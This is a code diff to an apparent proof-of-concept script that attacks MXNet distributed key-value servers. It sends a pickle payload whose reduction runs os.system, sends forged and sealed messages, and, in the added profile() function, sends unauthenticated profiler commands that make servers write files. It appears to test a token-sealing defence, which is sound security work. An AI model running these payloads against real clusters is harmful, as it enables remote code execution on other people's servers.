@@ -19,9 +19,17 @@ class Evil(object):
         return os.system, ("touch '%s'" % path,)
 
 
-def send(body):
+def send(body, head=0):
     """Past all that mxcluster has put in the way on a worker."""
-    check_call(_LIB.MXKVStoreSendCommmandToServers(kv.handle, mx_uint(0), c_str(body)))
+    check_call(_LIB.MXKVStoreSendCommmandToServers(kv.handle, mx_uint(head), c_str(body)))
+
+
+def profile():
+    """MXNet's commands for the profiler of servers, which no token seals; 1.2.1 has none."""
+    if mx.__version__ != "1.2.1":
+        for body in ("filename:profile.json,profile_all:10", "11", "13"):  # settings, on, write
+            send(body, 5)
+        send("strange", 42)
 
 
 kv = mx.kv.create(kind)
@@ -37,6 +45,7 @@ def attack():
         send(evil)
         send(good)
         send("")
+        profile()
         send(seal.sealed(b"another token, of 32 characters.", "worker-0", "optimizer", good))
         send(seal.sealed(token, "worker-0", "optimizer", evil))
         send(seal.sealed(token, "worker-0", "optimizer", pickle.dumps({"no": "optimizer"}, 0).decode()))
